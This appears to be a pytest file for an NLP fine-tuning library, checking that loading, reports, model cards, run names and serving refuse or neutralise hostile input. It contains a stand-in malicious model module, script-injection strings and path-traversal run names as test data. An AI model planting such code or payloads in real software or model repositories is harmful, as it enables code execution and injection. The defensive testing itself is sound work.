"""Safeguards: nothing runs, leaks or is lost that the user did not ask for (untrusted code, label order, heads that
do not fit, permissions, one error line, escaped text, run names, pushes). Process-level faults (kills, a full disk,
damaged checkpoints, concurrent resumes) are in test_faults.py."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

import nlptransfer
from nlptransfer.cli import main
from nlptransfer.errors import HubError, RunError
from nlptransfer.hub import FolderHub
from nlptransfer.inference import TextClassifier
from nlptransfer.run import RunFolder

from tests.helpers import cli, cli_env, killed_at, run_args

from .conftest import VOCAB, quick_overrides, sentiment_rows, write_csv


def _train(model: Path, data: Path, out: Path, **extra):
    extra.setdefault("training.epochs", 1)
    return nlptransfer.finetune("sentiment-minilm", data=str(data), overrides=quick_overrides(model, out, **extra))


def _one_error_line(done: subprocess.CompletedProcess | tuple, contains: str) -> None:
    err = done.stderr if hasattr(done, "stderr") else done[1]
    code = done.returncode if hasattr(done, "returncode") else done[0]
    assert code == 2, err[-2000:]
    assert "Traceback" not in err and contains in err, err[-2000:]
    assert [line for line in err.splitlines() if line.startswith("error: ")], err[-2000:]


def _main(args, capsys) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    captured = capsys.readouterr()
    return code, captured.err, captured.out


@pytest.fixture(scope="module")
def trained(tiny_models, tmp_path_factory) -> dict:
    """A finished full run and a finished LoRA run of the tiny BERT, and their data."""
    root = tmp_path_factory.mktemp("audit")
    data = write_csv(root / "reviews.csv", sentiment_rows(80))
    runs = {s: _train(tiny_models["bert"], data, root / s, strategy=s).path for s in ("full", "lora")}
    return {"root": root, "data": data, **runs}


def _copy(run: Path, to: Path) -> Path:
    shutil.copytree(run, to)
    return to


# -- loading never runs code a loaded folder asks for ------------------------------------------------------------------

EVIL = """
import os
open(os.environ["NLPT_EVIL_MARKER"], "w").write("ran")
from transformers import BertForSequenceClassification


class EvilModel(BertForSequenceClassification):
    pass
"""


@pytest.mark.slow
def test_a_repo_that_asks_for_trust_remote_code_runs_nothing_unless_the_caller_allows_it(tiny_models, trained,
                                                                                         tmp_path):
    base = tmp_path / "evil_base"
    shutil.copytree(tiny_models["bert"], base)
    (base / "modeling_evil.py").write_text(EVIL)
    config = json.loads((base / "config.json").read_text())
    config["auto_map"] = {"AutoModelForSequenceClassification": "modeling_evil.EvilModel"}
    (base / "config.json").write_text(json.dumps(config))
    marker = tmp_path / "code-ran"
    env = {"NLPT_EVIL_MARKER": str(marker), "HF_MODULES_CACHE": str(tmp_path / "modules")}
    os.environ.update(env)
    try:
        run = _train(base, trained["data"], tmp_path / "runs", strategy="lora").path  # trust_remote_code: false
        assert not marker.exists()  # the base model's own code was not run to train it
        hub = tmp_path / "hub"
        hub.mkdir()
        nlptransfer.push(run, "team/evil", hub=hub)
        # the attacker's commit: the same files, with a recipe that asks for the base model's code to run
        staged = tmp_path / "staged"
        shutil.copytree(FolderHub(hub).resolve("team/evil"), staged)
        recipe = yaml.safe_load((staged / "recipe.yaml").read_text())
        recipe["trust_remote_code"] = True
        (staged / "recipe.yaml").write_text(yaml.safe_dump(recipe))
        FolderHub(hub).commit("team/evil", staged, "main", "looks harmless")

        with pytest.raises(RunError, match="trained with trust_remote_code.*pass --trust-remote-code"):
            TextClassifier.from_pretrained("team/evil", hub=hub)
        texts = write_csv(tmp_path / "new.csv", [("good film", "")], header=("text", "x"))
        done = cli(["predict", "team/evil", "--hub", hub, "--input", texts, "--output", tmp_path / "p.csv"], tmp_path,
                   **env)
        _one_error_line(done, "pass --trust-remote-code")
        assert not marker.exists()  # nothing ran, on either path
        allowed = cli(["predict", "team/evil", "--hub", hub, "--input", texts, "--output", tmp_path / "p.csv",
                       "--trust-remote-code"], tmp_path, **env)
        assert allowed.returncode == 0, allowed.stderr[-2000:]
        assert marker.read_text() == "ran"  # the caller's flag, and only it, lets the code run
    finally:
        for key in env:
            os.environ.pop(key, None)


# -- label order -------------------------------------------------------------------------------------------------------

@pytest.mark.slow
def test_label_order_is_the_same_in_every_process(tmp_path):
    code = "from nlptransfer.data.labels import sort_labels; print(sort_labels({'1', '01', '1.0', '2', '02', '10'}))"
    seen = {subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                           env=cli_env(PYTHONHASHSEED=str(s)), timeout=120).stdout.strip() for s in range(8)}
    assert seen == {"['01', '1', '1.0', '02', '2', '10']"}


@pytest.mark.slow
def test_resume_keeps_the_label_map_the_run_started_with(tiny_models, tmp_path):
    data = write_csv(tmp_path / "d.csv", [(t, "1" if lab == "positive" else "01") for t, lab in sentiment_rows(120)])
    out = tmp_path / "killed"
    killed_at(17, run_args(tiny_models["bert"], data, out, **{"training.checkpoint_every": 5}), tmp_path,
              PYTHONHASHSEED="1")
    folder = out / "sentiment-minilm"
    labels = json.loads((folder / "labels.json").read_text())
    assert labels["id2label"] == {"0": "01", "1": "1"}  # numerically equal: ordered by their text
    reversed_map = {"id2label": {"0": "1", "1": "01"}, "label2id": {"1": 0, "01": 1}}
    (folder / "labels.json").write_text(json.dumps(reversed_map))  # what the run started with, as far as it knows
    resumed = cli(["run", "sentiment-minilm", "--resume", folder], tmp_path, PYTHONHASHSEED="2")
    assert resumed.returncode == 0, resumed.stderr[-2000:]
    assert json.loads((folder / "labels.json").read_text()) == reversed_map
    assert json.loads((folder / "model" / "config.json").read_text())["id2label"] == {"0": "1", "1": "01"}
    whole = cli(run_args(tiny_models["bert"], data, tmp_path / "whole", **{"training.checkpoint_every": 5}),
                tmp_path, PYTHONHASHSEED="3")
    assert whole.returncode == 0
    a = json.loads((tmp_path / "whole" / "sentiment-minilm" / "metrics.json").read_text())
    b = json.loads((folder / "metrics.json").read_text())
    assert a["test"]["n"] == b["test"]["n"] == 12


# -- a missing or resized head -----------------------------------------------------------------------------------------

def test_a_missing_or_resized_head_is_refused_naming_the_weights(trained, tiny_models, tmp_path, capsys):
    three = {"id2label": {"0": "a", "1": "b", "2": "c"}, "label2id": {"a": 0, "b": 1, "c": 2}}
    resized = _copy(trained["full"], tmp_path / "resized")
    (resized / "labels.json").write_text(json.dumps(three))
    with pytest.raises(RunError, match=r"classifier\.(weight|bias).*missing or of another shape"):
        TextClassifier.load(resized)
    base_only = _copy(trained["full"], tmp_path / "base_only")
    shutil.copyfile(tiny_models["bert"] / "model.safetensors", base_only / "model" / "model.safetensors")
    with pytest.raises(RunError, match=r"classifier\.(weight|bias)"):
        TextClassifier.load(base_only)
    adapter_three = _copy(trained["lora"], tmp_path / "adapter_three")
    (adapter_three / "labels.json").write_text(json.dumps(three))
    with pytest.raises(RunError, match="does not fit its labels.json"):
        TextClassifier.load(adapter_three)
    headless = _copy(trained["lora"], tmp_path / "headless")
    from safetensors.torch import load_file, save_file

    weights = headless / "adapter" / "adapter_model.safetensors"
    save_file({k: v for k, v in load_file(str(weights)).items() if "classifier" not in k}, str(weights))
    with pytest.raises(RunError, match=r"adapter .* is incomplete: the trained weight .*classifier.* is missing"):
        TextClassifier.load(headless)
    texts = write_csv(tmp_path / "t.csv", [("good", "")], header=("text", "x"))
    _one_error_line(_main(["predict", resized, "--input", texts, "--output", tmp_path / "o.csv"], capsys),
                    "missing or of another shape")


# -- permissions follow the umask --------------------------------------------------------------------------------------

UMASK_SCRIPT = """
import os, sys, json
os.umask(int(sys.argv[1], 8))
import nlptransfer
run = nlptransfer.finetune("sentiment-minilm", data=sys.argv[2], overrides=json.loads(sys.argv[3]))
hub = os.path.join(sys.argv[4], "hub")
os.mkdir(hub)
nlptransfer.push(run.path, "team/x", hub=hub)
print(run.path)
"""


@pytest.mark.slow
@pytest.mark.parametrize("umask, file_mode, dir_mode", [("022", 0o644, 0o755), ("002", 0o664, 0o775)])
def test_run_folders_and_folder_hubs_get_the_permissions_the_umask_gives(tiny_models, trained, tmp_path, umask,
                                                                         file_mode, dir_mode):
    overrides = quick_overrides(tiny_models["bert"], tmp_path / "runs", **{"training.epochs": 1})
    done = subprocess.run([sys.executable, "-c", UMASK_SCRIPT, umask, str(trained["data"]),
                           json.dumps({k: str(v) if isinstance(v, Path) else v for k, v in overrides.items()}),
                           str(tmp_path)], env=cli_env(), capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-2000:]
    run = Path(done.stdout.strip().splitlines()[-1])
    for root in (run, tmp_path / "hub" / "team" / "x"):
        entries = [p for p in root.rglob("*") if not p.name.startswith(".")]
        assert len(entries) > 10
        wrong = {str(p): oct(p.stat().st_mode & 0o777) for p in entries + [root]
                 if (p.stat().st_mode & 0o777) != (dir_mode if p.is_dir() else file_mode)}
        assert wrong == {}


# -- one error line, never a traceback ---------------------------------------------------------------------------------

def _damage(folder: Path, name: str) -> None:
    target = next(p for p in folder.rglob(name))
    target.write_bytes(target.read_bytes()[: max(1, target.stat().st_size // 3)] + b"\x00{not json")


@pytest.mark.parametrize("damaged, message", [
    ("labels.json", "labels.json is damaged: it is not valid JSON"),
    ("recipe.yaml", "recipe.yaml is damaged"),
    ("model.safetensors", "cannot read the trained model"),
    ("tokenizer.json", "cannot read the tokenizer"),
])
def test_a_damaged_run_folder_file_is_one_error_line(trained, tmp_path, capsys, damaged, message):
    run = _copy(trained["full"], tmp_path / "run")
    _damage(run, damaged)
    texts = write_csv(tmp_path / "t.csv", [("good", "")], header=("text", "x"))
    _one_error_line(_main(["predict", run, "--input", texts, "--output", tmp_path / "o.csv"], capsys), message)


def test_predict_arguments_and_output_folder(trained, tmp_path, capsys):
    texts = write_csv(tmp_path / "t.csv", [("good", "")], header=("text", "x"))
    with pytest.raises(SystemExit) as e:
        main(["predict", str(trained["full"]), "--input", str(texts), "--output", "o.csv", "--batch-size", "0"])
    assert e.value.code == 2 and "argument --batch-size: must be at least 1, got 0" in capsys.readouterr().err
    _one_error_line(_main(["predict", trained["full"], "--input", texts, "--output", tmp_path], capsys), "is a folder")
    _one_error_line(_main(["predict", trained["full"], "--input", texts, "--output", tmp_path / "o.xlsx"], capsys),
                    "cannot tell the output format")


@pytest.mark.parametrize("override, message", [
    ("training.lr=.nan", "'training.lr' must be a finite number, got nan"),
    ("training.epochs=.inf", "'training.epochs' must be a finite number, got inf"),
    ("training.seed=-1", "training.seed must be in [0, 2**32), got -1"),
    ("peft.r=0", "peft.r must be at least 1, got 0"),
    ("strategy=prompt_tuning", "strategy 'prompt_tuning' is not supported: it is a prompt-learning method"),
    ("strategy=prefix_tuning", "strategy 'prefix_tuning' is not supported"),
])
def test_recipes_that_would_crash_are_refused_when_validated(override, message, capsys):
    extra = ["strategy=lora"] if override.startswith("peft.") else []
    _one_error_line(_main(["recipes", "validate", "sentiment-minilm", *extra, override], capsys), message)


def test_ln_tuning_trains_with_the_layer_norms_as_targets(tiny_models, trained, tmp_path):
    run = _train(tiny_models["distilbert"], trained["data"], tmp_path, strategy="ln_tuning")
    assert 0 < run.metrics["trainable_parameters"] < run.metrics["total_parameters"] / 10
    assert run.classifier().predict_proba(["good film"]).shape == (1, 2)


def test_a_label_with_math_text_does_not_break_the_report(tiny_models, tmp_path):
    rows = [(t, "$\\undefinedcmd$" if lab == "positive" else "$x_1$") for t, lab in sentiment_rows(80)]
    data = write_csv(tmp_path / "d.csv", rows)
    run = _train(tiny_models["bert"], data, tmp_path, **{"report.enabled": True, "report.learning_curve": [1.0],
                                                        "report.latency_texts": 5})
    assert (run.path / "report" / "report.html").stat().st_size > 10_000


# -- a refused run leaves no folder ------------------------------------------------------------------------------------

def test_a_run_refused_after_its_data_checked_out_leaves_no_folder(tiny_models, trained, tmp_path, capsys):
    args = ["run", "sentiment-minilm", "--data", trained["data"], f"model={tiny_models['bert']}",
            f"output.dir={tmp_path}", "training.epochs=1", "training.progress=false", "strategy=top_k"]
    _one_error_line(_main(args + ["top_k=100"], capsys), "top_k=100 but the model has only 3 layers")
    assert list(tmp_path.iterdir()) == []
    assert _main(args + ["top_k=1"], capsys)[0] == 0
    assert [p.name for p in tmp_path.iterdir()] == ["sentiment-minilm"]  # not sentiment-minilm-2


# -- user text is escaped ----------------------------------------------------------------------------------------------

HOSTILE = ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>|a\nb"]


def _no_markup(markdown: str) -> str:
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    flat = [t for tok in tokens for t in [tok, *(tok.children or [])]]
    assert [t.content for t in flat if t.type in ("html_inline", "html_block")] == []
    html = MarkdownIt("commonmark").enable("table").render(markdown)
    assert "<script" not in html and "<img" not in html
    return html


def test_labels_and_texts_reach_the_card_and_report_as_text(tiny_models, tmp_path, capsys):
    rows = [(("<script>x()</script> " if i % 5 == 0 else "") + t, HOSTILE[lab == "positive"])
            for i, (t, lab) in enumerate(sentiment_rows(80))]
    data = write_csv(tmp_path / "d.csv", rows)
    run = _train(tiny_models["bert"], data, tmp_path / "runs", **{"report.enabled": True, "report.learning_curve": [1.0],
                                                                 "report.latency_texts": 5, "training.lr": 1e-6})
    report_html = _no_markup((run.path / "report" / "report.md").read_text())
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report_html
    hub = tmp_path / "hub"
    hub.mkdir()
    nlptransfer.push(run.path, "team/hostile", hub=hub)
    card = (FolderHub(hub).resolve("team/hostile") / "README.md").read_text()
    card_html = _no_markup(card.split("---", 2)[2])
    assert "&lt;img src=x onerror=alert(2)&gt;|a b" in card_html
    rows_of_labels_table = card.split("## Labels")[1].split("##")[0].strip().splitlines()
    assert all(line.count(" | ") == 2 for line in rows_of_labels_table if line.startswith("| ") and "---" not in line)
    _one_error_line(_main(["push", run.path, "--repo", "team/h2", "--hub", hub, "--license", "my own"], capsys),
                    "license 'my own' is not a Hugging Face Hub license identifier; use one of: apache-2.0, mit")
    with pytest.raises(HubError, match="did you mean 'apache-2.0'"):
        nlptransfer.push(run.path, "team/h2", hub=hub, license="apache2.0")


# -- run names stay inside output.dir ----------------------------------------------------------------------------------

@pytest.mark.parametrize("override", ["output.name=../../escaped", "output.name=/tmp/escaped-abs", "name=../../escaped",
                                      "output.name=..", "output.name=a/b"])
def test_run_names_cannot_leave_output_dir(trained, tiny_models, tmp_path, capsys, override):
    out = tmp_path / "a" / "b"
    before = set(tmp_path.rglob("*"))
    args = ["run", "sentiment-minilm", "--data", trained["data"], f"model={tiny_models['bert']}", f"output.dir={out}",
            override]
    _one_error_line(_main(args, capsys), "must be a plain folder name")
    assert set(tmp_path.rglob("*")) == before and not Path("/tmp/escaped-abs").exists()


# -- evaluate has its own checks and words -----------------------------------------------------------------------------

def test_evaluate_takes_a_one_class_file_and_says_what_evaluate_accepts(tiny_models, tmp_path, capsys):
    rows = [(t, f"u{i}", "good" if lab == "positive" else "bad") for i, (t, lab) in enumerate(sentiment_rows(80))]
    data = write_csv(tmp_path / "d.csv", rows, header=("review", "user", "verdict"))  # label found by its values
    run = _train(tiny_models["bert"], data, tmp_path / "runs")
    assert json.loads((run.path / "data_report.json").read_text())["inferred"]["label_column"]["column"] == "verdict"
    one_class = write_csv(tmp_path / "one.csv", [r for r in rows if r[2] == "good"][:10], header=("review", "user", "verdict"))
    code, err, out = _main(["evaluate", run.path, "--data", one_class], capsys)
    assert code == 0, err
    assert "rows 10" in out
    bad = write_csv(tmp_path / "bad.csv", [("", "u1", "good"), ("fine", "u2", "ugly"), ("ok", "u3", "bad")],
                    header=("review", "user", "verdict"))
    code, err, _ = _main(["evaluate", run.path, "--data", bad], capsys)
    assert code == 2
    assert "evaluation file: 1 row(s) have an empty or missing text (rows 1); fix or remove them" in err
    assert "evaluation file: labels the run was not trained on (it knows 'bad', 'good'): 'ugly' (1 rows)" in err
    for word in ("train:", "data.labels", "data.drop_invalid", "data.text_columns"):
        assert word not in err
    missing = write_csv(tmp_path / "m.csv", [("x", "n1"), ("y", "n2"), ("z", "n3")], header=("review", "note"))
    code, err, _ = _main(["evaluate", run.path, "--data", missing], capsys)
    assert code == 2 and "--label-column" in err and "data.label_column" not in err


# -- predict says what is dubious and keeps the file as it was ---------------------------------------------------------

def test_predict_refuses_a_file_without_texts_and_lists_as_texts(trained, tmp_path, capsys):
    only_labels = write_csv(tmp_path / "labels.csv", [("positive",), ("negative",)] * 3, header=("label",))
    _one_error_line(_main(["predict", trained["full"], "--input", only_labels, "--output", tmp_path / "o.csv"], capsys),
                    "no text column to predict on")
    nested = tmp_path / "nested.jsonl"
    nested.write_text('{"text": ["a", "list"]}\n{"text": {"a": 1}}\n{"text": "fine"}\n')
    _one_error_line(_main(["predict", trained["full"], "--input", nested, "--output", tmp_path / "o.csv"], capsys),
                    "holds lists or mappings, not texts")


def test_predict_writes_in_chunks_what_it_writes_whole_and_a_failure_part_way_keeps_the_old_output(trained,
                                                                                                   tmp_path):
    rows = [(f"{'good' if i % 2 else 'bad'} film {i}" if i % 7 else "", str(i)) for i in range(23)]
    source = write_csv(tmp_path / "in.csv", rows, header=("text", "id"))
    for suffix, read in ((".csv", lambda p: pd.read_csv(p, dtype=str, keep_default_na=False)),
                         (".jsonl", lambda p: pd.read_json(p, lines=True, dtype=False)), (".parquet", pd.read_parquet)):
        whole, chunked = tmp_path / f"whole{suffix}", tmp_path / f"chunked{suffix}"
        assert nlptransfer.predict_file(trained["full"], str(source), str(whole)) == 23
        assert nlptransfer.predict_file(trained["full"], str(source), str(chunked), rows=5) == 23
        pd.testing.assert_frame_equal(read(chunked), read(whole))
        assert read(whole)["id"].astype(str).tolist() == [str(i) for i in range(23)]
    mixed = tmp_path / "mixed.jsonl"  # "id" a number in the first rows and a text from row 13 on
    mixed.write_text("".join(json.dumps({"text": "good film", "id": i if i < 12 else f"x{i}"}) + "\n"
                             for i in range(20)))
    out = tmp_path / "o.parquet"
    out.write_bytes(b"the user's earlier file")
    with pytest.raises(nlptransfer.errors.DataError, match="rows from 11 on do not fit the column types"):
        nlptransfer.predict_file(trained["full"], str(mixed), str(out), rows=10)
    assert out.read_bytes() == b"the user's earlier file"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_predict_flags_empty_texts_keeps_every_row_and_column_type_and_writes_parquet(trained, tmp_path, capsys):
    source = tmp_path / "in.jsonl"
    records = [{"id": 7, "text": "good film", "score": 0.5}, {"id": 8, "text": None, "score": None},
               {"id": 9, "text": "", "score": 1.5}, {"id": 10, "text": "bad film", "score": 2.0}]
    source.write_text("".join(json.dumps(r) + "\n" for r in records))
    code, err, out = _main(["predict", trained["full"], "--input", source, "--output", tmp_path / "o.jsonl"], capsys)
    assert code == 0, err
    assert f"read 4 rows of {source} (jsonl, utf-8)" in out
    assert "warning: 2 of 4 rows have no text (rows 2, 3): they are written without a prediction" in out
    written = [json.loads(line) for line in (tmp_path / "o.jsonl").read_text().splitlines()]
    assert [r["id"] for r in written] == [7, 8, 9, 10] and all(isinstance(r["id"], int) for r in written)
    assert [r["predicted"] is None for r in written] == [False, True, True, False]
    assert main(["predict", str(trained["full"]), "--input", str(source), "--output", str(tmp_path / "o.parquet")]) == 0
    frame = pd.read_parquet(tmp_path / "o.parquet")
    assert len(frame) == 4 and list(frame.columns)[:3] == ["id", "text", "score"]
    csv_in = write_csv(tmp_path / "in.csv", [("007", "good film"), ("008", "bad film")], header=("code", "text"))
    assert main(["predict", str(trained["full"]), "--input", str(csv_in), "--output", str(tmp_path / "o.csv")]) == 0
    assert pd.read_csv(tmp_path / "o.csv", dtype=str)["code"].tolist() == ["007", "008"]
    clash = write_csv(tmp_path / "clash.csv", [("good film", "x")], header=("text", "predicted"))
    _one_error_line(_main(["predict", trained["full"], "--input", clash, "--output", tmp_path / "c.csv"], capsys),
                    "already has columns named predicted")


# -- no local path is published ----------------------------------------------------------------------------------------

def test_a_whole_model_push_publishes_no_local_path(trained, tiny_models, tmp_path):
    hub = tmp_path / "hub"
    hub.mkdir()
    nlptransfer.push(trained["full"], "team/full", hub=hub)
    snapshot = FolderHub(hub).resolve("team/full")
    local = [str(tiny_models["bert"]), str(tiny_models["bert"].parent), str(trained["root"])]
    leaks = {p.name: [x for x in local if x in p.read_text(errors="ignore")] for p in snapshot.iterdir()
             if p.suffix in (".json", ".yaml", ".md", ".txt")}
    assert {k: v for k, v in leaks.items() if v} == {}
    assert json.loads((snapshot / "nlptransfer.json").read_text())["base_model"]["name"] == "bert"
    assert TextClassifier.from_pretrained("team/full", hub=hub).predict("good").label in ("negative", "positive")


# -- concurrent callers get their own run folders ----------------------------------------------------------------------

def test_concurrent_callers_with_one_name_each_get_a_folder(tmp_path):
    barrier, found, errors = threading.Barrier(8), [], []

    def claim():
        barrier.wait()
        try:
            found.append(RunFolder.new(tmp_path, "same").root.name)
        except Exception as e:  # noqa: BLE001  the defect: FileExistsError
            errors.append(e)

    threads = [threading.Thread(target=claim) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == [] and sorted(found) == sorted(["same"] + [f"same-{i}" for i in range(2, 9)])


# -- killed pushes leave no debris -------------------------------------------------------------------------------------

def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_the_next_push_removes_what_killed_pushes_left_and_temporary_refs_are_no_branches(trained, tmp_path):
    import tempfile

    from nlptransfer.fsio import _HOST

    hub = tmp_path / "hub"
    hub.mkdir()
    nlptransfer.push(trained["lora"], "team/x", hub=hub)
    dead = _dead_pid()
    scratch = Path(tempfile.gettempdir()) / f".nlptransfer-push.{_HOST}.{dead}.deadbeef.tmp"
    scratch.mkdir()
    (scratch / "adapter_model.safetensors").write_bytes(b"0" * 1000)
    alive = Path(tempfile.gettempdir()) / f".nlptransfer-push.{_HOST}.{os.getpid()}.cafebabe.tmp"
    alive.mkdir()
    refs = hub / "team" / "x" / "refs"
    stale_ref = refs / f".main.{_HOST}.{dead}.0badf00d.tmp"
    stale_ref.write_text("0" * 40)
    assert FolderHub(hub).branches("team/x") == ["main"]
    with pytest.raises(HubError, match=r"\(branches: main\)"):
        FolderHub(hub).resolve("team/x", "nope")
    nlptransfer.push(trained["lora"], "team/x", hub=hub)
    assert not scratch.exists() and not stale_ref.exists()
    assert alive.exists()  # a live process's scratch folder is left alone
    alive.rmdir()
    assert [p for p in Path(tempfile.gettempdir()).glob(f".nlptransfer-push.{_HOST}.{os.getpid()}.*")] == []


# --- issue 38: model load and serve ---

def _bigger_tokenizer(folder: Path, extra: list[str]) -> None:
    """Replace the tokenizer in `folder` by one with the tiny vocabulary and `extra` words after it (ids past the
    tiny model's embedding table)."""
    from transformers import BertTokenizer

    for f in folder.iterdir():
        if f.name.startswith(("tokenizer", "vocab", "special_tokens")):
            f.unlink()
    BertTokenizer(vocab={w: i for i, w in enumerate(VOCAB + extra)}, model_max_length=64).save_pretrained(folder)


def test_a_tokenizer_larger_than_the_embedding_table_is_refused_at_every_load(trained, tiny_models, tmp_path, capsys):
    rows = len(VOCAB)
    run = _copy(trained["full"], tmp_path / "run")
    _bigger_tokenizer(run / "tokenizer", [f"zz{i}" for i in range(300)])
    sizes = f"produces {rows + 300} token ids, but the model's embedding table has {rows} rows"
    with pytest.raises(RunError, match=sizes):
        TextClassifier.load(run)
    texts = write_csv(tmp_path / "texts.csv", [("a good film", "positive")])
    _one_error_line(_main(["predict", run, "--input", texts, "--output", tmp_path / "out.csv"], capsys), sizes)
    assert not (tmp_path / "out.csv").exists()
    adapter = _copy(trained["lora"], tmp_path / "lora")  # an adapter's tokenizer against its base model's table
    _bigger_tokenizer(adapter / "tokenizer", ["zz0"])
    with pytest.raises(RunError, match=f"produces {rows + 1} token ids, but the model's embedding table has {rows}"):
        TextClassifier.load(adapter)
    base = tmp_path / "base"  # a training run from a base model whose tokenizer is larger: refused before training
    shutil.copytree(tiny_models["bert"], base)
    _bigger_tokenizer(base, ["zz0", "zz1"])
    with pytest.raises(RunError, match=f"produces {rows + 2} token ids, but the model's embedding table has {rows}"):
        _train(base, trained["data"], tmp_path / "out")
    assert not list((tmp_path / "out").glob("*/model"))


def test_a_huge_tokenizer_file_is_refused_from_its_file_before_it_is_built(trained, tmp_path):
    run = _copy(trained["full"], tmp_path / "run")
    path = run / "tokenizer" / "tokenizer.json"
    data = json.loads(path.read_text())
    data["model"]["vocab"].update({f"zz{i}": len(VOCAB) + i for i in range(200_000)})
    data["normalizer"] = {"type": "NoSuchNormalizer"}  # building it would fail with another message
    path.write_text(json.dumps(data))
    with pytest.raises(RunError, match=f"produces {len(VOCAB) + 200_000} token ids, but the model's embedding "
                                       f"table has {len(VOCAB)} rows"):
        TextClassifier.load(run)


@pytest.fixture()
def in_thread_server():
    """Serve an ASGI app with uvicorn on 127.0.0.1 in a thread of this process until the block ends (the app's
    classifier can be one that no load would give)."""
    import time
    from contextlib import contextmanager

    import uvicorn

    from tests.test_serve import free_port

    @contextmanager
    def serving(app):
        port = free_port()
        server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="critical"))
        thread = threading.Thread(target=server.run, daemon=True)
        thread.start()
        deadline = time.time() + 60
        while not server.started:
            assert thread.is_alive() and time.time() < deadline, "the server did not start"
            time.sleep(0.05)
        try:
            yield f"http://127.0.0.1:{port}"
        finally:
            server.should_exit = True
            thread.join(30)

    return serving


def test_a_text_the_model_fails_on_fails_only_its_own_request_with_a_json_500(trained, in_thread_server, tmp_path):
    import asyncio

    import httpx
    from transformers import BertTokenizer

    from nlptransfer.serve import ServeConfig, create_app

    good = TextClassifier.load(trained["full"])
    # the refusal at load time aside, a tokenizer with one word past the embedding table: that word's id fails
    big = BertTokenizer(vocab={w: i for i, w in enumerate(VOCAB + ["zzbad"])}, model_max_length=64)
    clf = TextClassifier(good.model, big, good.label_map, good.max_length, good.recipe)
    app = create_app(clf, ServeConfig(max_wait_ms=1000), trained["full"])
    texts = [["a good film"], ["zzbad"], ["a bad film", "okay"]]
    with in_thread_server(app) as url:
        async def together():
            async with httpx.AsyncClient(base_url=url, timeout=60) as client:
                await client.post("/v1/predict", json={"texts": "warm"})  # so the next ones wait for company
                return await asyncio.gather(*(client.post("/v1/predict", json={"texts": t}) for t in texts))

        answers = asyncio.run(together())
        sizes = {line.split()[0]: float(line.split()[1]) for line in httpx.get(url + "/metrics").text.splitlines()
                 if line.startswith(("nlptransfer_batch_size_count", "nlptransfer_batch_size_sum"))}
    assert [a.status_code for a in answers] == [200, 500, 200]
    for answer, sent in ((answers[0], texts[0]), (answers[2], texts[2])):
        got = [[p["probabilities"][n] for n in ("negative", "positive")] for p in answer.json()["predictions"]]
        np.testing.assert_allclose(got, good.predict_proba(sent), atol=1e-5)
    error = answers[1].json()["error"]
    assert error["status"] == 500 and error["type"] == "internal" and "IndexError" in error["message"]
    # each of the 5 texts ran once, and the k texts of the batch that failed once more (alone): the bad text failed a
    # batch it shared (k = 4 when the three requests met in one batch, at least 2 whatever the timing)
    failed_with = sizes["nlptransfer_batch_size_sum"] - 5
    assert 2 <= failed_with <= 4


def _serve_args(run: Path, *extra) -> list:
    return ["serve", run, "--port", str(_free_port()), *extra]


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_serve_checks_the_prediction_log_and_the_port_before_the_model_loads(trained, tmp_path, capsys):
    import socket

    run = _copy(trained["full"], tmp_path / "run")
    for f in (run / "model").glob("*.safetensors"):
        f.write_bytes(b"not weights")  # a load would fail with another message: these checks come first
    (tmp_path / "folder").mkdir()
    (tmp_path / "link.jsonl").symlink_to(tmp_path / "elsewhere.jsonl")
    for log, says in ((tmp_path / "missing" / "p.jsonl", f"the folder {tmp_path / 'missing'} does not exist"),
                      (tmp_path / "folder", "is a folder"), (tmp_path / "link.jsonl", "is a symbolic link")):
        _one_error_line(_main(_serve_args(run, "--prediction-log", log), capsys), says)
    assert not (tmp_path / "elsewhere.jsonl").exists()
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        _one_error_line(_main(["serve", run, "--port", port], capsys), f"cannot listen on 127.0.0.1:{port}")


def test_serve_warns_when_it_listens_beyond_this_machine_without_a_key(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("NLPT_KEY", "k" * 32)
    warning = ("warning: serving on 0.0.0.0 without an API key: anyone who can reach this machine can use the model "
               "(set --api-key-env, or listen on 127.0.0.1)")
    for host, extra, warned in (("0.0.0.0", [], True), ("127.0.0.1", [], False), ("localhost", [], False),
                                ("0.0.0.0", ["--api-key-env", "NLPT_KEY"], False)):
        # a run folder that is not there: the warning comes before the model is looked for, then the error
        code, err, out = _main(_serve_args(tmp_path / "no-run", "--host", host, *extra), capsys)
        assert code == 2 and "no-run" in err and "Traceback" not in err
        assert [line for line in out.splitlines() if line.startswith("warning:")] == ([warning] if warned else []), host


def test_serve_asks_for_the_key_before_reading_the_body_and_flags_empty_texts(trained, monkeypatch):
    from starlette.testclient import TestClient

    from nlptransfer.serve import ServeConfig, create_app

    clf = TextClassifier.load(trained["full"])
    monkeypatch.setenv("NLPT_KEY", "k" * 32)
    with TestClient(create_app(clf, ServeConfig(api_key_env="NLPT_KEY"))) as client:
        for body in (b"not json", b'{"texts": ', b'{"texts": ""}'):
            denied = client.post("/v1/predict", content=body, headers={"content-type": "application/json"})
            assert denied.status_code == 401 and denied.json()["error"]["type"] == "unauthorized"
        assert client.get("/nothing-here").status_code == 401
        key = {"Authorization": "Bearer " + "k" * 32}
        assert client.post("/v1/predict", content=b"not json", headers=key).status_code == 422
        for texts, says in (("", "body.texts: Value error, an empty or missing text"),
                            (" \t\n", "body.texts: Value error, an empty or missing text"),
                            (["a good film", "  "], "body.texts: Value error, text 1: an empty or missing text")):
            flagged = client.post("/v1/predict", json={"texts": texts}, headers=key)
            assert flagged.status_code == 422 and flagged.json()["error"]["message"] == says
